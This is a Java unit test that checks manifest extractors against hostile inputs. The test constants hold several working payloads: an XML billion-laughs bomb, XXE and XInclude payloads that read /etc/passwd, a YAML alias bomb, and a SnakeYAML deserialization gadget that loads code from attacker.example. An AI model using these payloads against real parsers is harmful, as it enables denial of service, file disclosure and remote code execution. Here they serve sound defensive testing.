package io.stacklint.extract;

import static org.assertj.core.api.Assertions.assertThat;

import io.stacklint.model.Evidence;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicContainer;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Hostile files as every extractor that could be handed them sees them: each gives either evidence or one
 * diagnostic at a real position, never an exception of another kind, never a stack overflow, and never the
 * content of a file outside the repository.
 */
class HostileInputTest {

    private static final String SECRET = "root:x:0:0";

    /** Entity expansion: a few hundred bytes that a naive parser turns into gigabytes. */
    private static final String BILLION_LAUGHS = """
            <?xml version="1.0"?>
            <!DOCTYPE project [
              <!ENTITY lol "lol">
              <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
              <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
              <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
            ]>
            <project><artifactId>&lol9;</artifactId></project>
            """;

    /** An external entity that would put /etc/passwd into a dependency's name. */
    private static final String XXE = """
            <?xml version="1.0"?>
            <!DOCTYPE project [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
            <Project Sdk="Microsoft.NET.Sdk">
              <dependencies><dependency><groupId>&secret;</groupId><artifactId>x</artifactId></dependency></dependencies>
              <ItemGroup><PackageReference Include="&secret;" Version="1.0" /></ItemGroup>
            </Project>
            """;

    /** XInclude of a local file. */
    private static final String XINCLUDE = """
            <?xml version="1.0"?>
            <project xmlns:xi="http://www.w3.org/2001/XInclude">
              <xi:include href="file:///etc/passwd" parse="text"/>
            </project>
            """;

    /** Nine levels of ten aliases each: a billion nodes from a kilobyte of YAML. */
    private static final String ALIAS_BOMB = """
            a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
            b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
            c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
            d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
            e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
            f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
            g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
            h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
            services: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
            """;

    /** A Java object constructed from a global tag: what SnakeYAML's unsafe loading would run. */
    private static final String GLOBAL_TAG = """
            services: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
            """;

    @TestFactory
    Stream<DynamicContainer> xml_never_expands_entities_nor_reads_files_outside_the_tree() {
        return perExtractor(
                hostile("billion laughs", BILLION_LAUGHS),
                hostile("external entity", XXE),
                hostile("xinclude", XINCLUDE));
    }

    @TestFactory
    Stream<DynamicContainer> yaml_refuses_alias_bombs_and_global_tags() {
        return perExtractor(hostile("alias bomb", ALIAS_BOMB), hostile("global tag", GLOBAL_TAG),
                hostile("bad tag directive", "%TAG !%a\n--- !%a\nservices: {}\n"));
    }

    @TestFactory
    Stream<DynamicTest> every_yaml_extractor_gives_nothing_from_an_alias_bomb() {
        return Extractors.builtIn().stream()
                .flatMap(extractor -> ExtractorProperty.paths(extractor.id()).stream()
                        .filter(path -> path.endsWith(".yml") || path.endsWith(".yaml")).limit(1)
                        .map(path -> DynamicTest.dynamicTest(extractor.id() + " (" + path + ")",
                                () -> assertThat(extract(extractor, path, ALIAS_BOMB.getBytes(StandardCharsets.UTF_8))
                                        .orElse(List.of()))
                                        .as("evidence of %s from an alias bomb", extractor.id()).isEmpty())));
    }

    @TestFactory
    Stream<DynamicContainer> deep_nesting_is_a_diagnostic_not_a_stack_overflow() {
        int depth = 50_000;
        return perExtractor(
                hostile("deep arrays", "[".repeat(depth) + "]".repeat(depth)),
                hostile("deep objects", "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)),
                hostile("deep yaml flow", "services: " + "[".repeat(depth)),
                hostile("deep xml", "<project>" + "<a>".repeat(depth) + "</a>".repeat(depth) + "</project>"),
                hostile("deep parentheses", "x = " + "(".repeat(depth) + "1" + ")".repeat(depth) + "\n"),
                hostile("deep braces", "a {\n".repeat(depth) + "}\n".repeat(depth)));
    }

    @TestFactory
    Stream<DynamicContainer> a_huge_single_line_and_binary_and_non_utf8_content_are_handled() {
        byte[] latin1 = "name: caf\u00e9\nimage: mysql:5.7\n".getBytes(StandardCharsets.ISO_8859_1);
        byte[] binary = new byte[4096];
        for (int i = 0; i < binary.length; i++) {
            binary[i] = (byte) (i * 31);
        }
        return perExtractor(
                hostile("huge line", "image: " + "a".repeat(1024 * 1024) + "\n"),
                hostile("huge quoted line", "\"" + "\\\"".repeat(128 * 1024) + "\n"),
                new Hostile("latin-1", latin1),
                new Hostile("binary", binary),
                new Hostile("utf-16", "<project><artifactId>x</artifactId></project>"
                        .getBytes(StandardCharsets.UTF_16)));
    }

    private static Stream<DynamicContainer> perExtractor(Hostile... inputs) {
        return Extractors.builtIn().stream().map(extractor -> {
            String path = ExtractorProperty.paths(extractor.id()).get(0);
            return DynamicContainer.dynamicContainer(extractor.id() + " (" + path + ")", Stream.of(inputs)
                    .map(input -> DynamicTest.dynamicTest(input.name(), () -> assertHandled(extractor, path,
                            input))));
        });
    }

    private static void assertHandled(Extractor extractor, String path, Hostile input) {
        // the property: evidence at real positions or an ExtractionException, nothing else escapes
        ExtractorProperty.check(extractor, path, input.bytes());
        if (input.bytes().length > 64 * 1024) {
            return; // big inputs test stack and time, not content: one extraction is enough
        }
        Optional<List<Evidence>> evidence = extract(extractor, path, input.bytes());
        evidence.ifPresent(found -> assertThat(found).as("evidence of %s", extractor.id())
                .noneMatch(e -> (e.name() + e.value() + e.version()).contains(SECRET))
                .noneMatch(e -> e.value().contains("lollollol")));
    }

    /** The evidence, or empty when the extractor refused the file with a diagnostic. */
    private static Optional<List<Evidence>> extract(Extractor extractor, String path, byte[] bytes) {
        try {
            return Optional.of(extractor.extract(new SourceFile(path, bytes)));
        } catch (ExtractionException refused) {
            assertThat(refused.getMessage()).as("diagnostic of %s", extractor.id()).isNotBlank()
                    .doesNotContain(SECRET);
            return Optional.empty();
        }
    }

    private static Hostile hostile(String name, String text) {
        return new Hostile(name, text.getBytes(StandardCharsets.UTF_8));
    }

    private record Hostile(String name, byte[] bytes) {
    }
}
